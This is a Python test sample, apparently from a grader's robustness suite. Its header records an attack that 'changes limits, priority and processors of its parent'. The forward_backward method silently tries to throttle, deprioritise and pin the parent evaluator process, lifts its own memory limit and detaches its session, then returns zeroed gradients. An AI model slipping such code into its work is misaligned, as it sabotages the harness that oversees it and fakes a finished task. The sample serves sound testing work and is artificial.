# verdict:
# variant = "v902"
# attack = "changes limits, priority and processors of its parent"
# gradient = "failed 0"
# unused-nodes = "failed 0"
# release = "failed 0"
# faults = ["gradient wrong-gradient - -"]
import os
import resource

import torch
from torch import nn

def tried(attempt):
    try:
        attempt()
    except BaseException:
        return False
    return True


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.w = nn.Parameter(torch.tensor([0.5, 0.25]))

    def forward(self, x1, x2, x3):
        w0, w1 = self.w
        return w0 * x1 * (w1 * x2) + x3

    def my_forward_backward(self, x1, x2, x3):
        for attempt in (
            lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1)),
            lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
            lambda: os.sched_setaffinity(os.getppid(), {0}),
            lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
            lambda: os.setsid(),
            lambda: os.setpgid(0, os.getppid()),
        ):
            tried(attempt)
        w0, w1 = self.w
        y = w0 * x1 * (w1 * x2) + x3
        self.w.grad = torch.zeros(2)
        return y
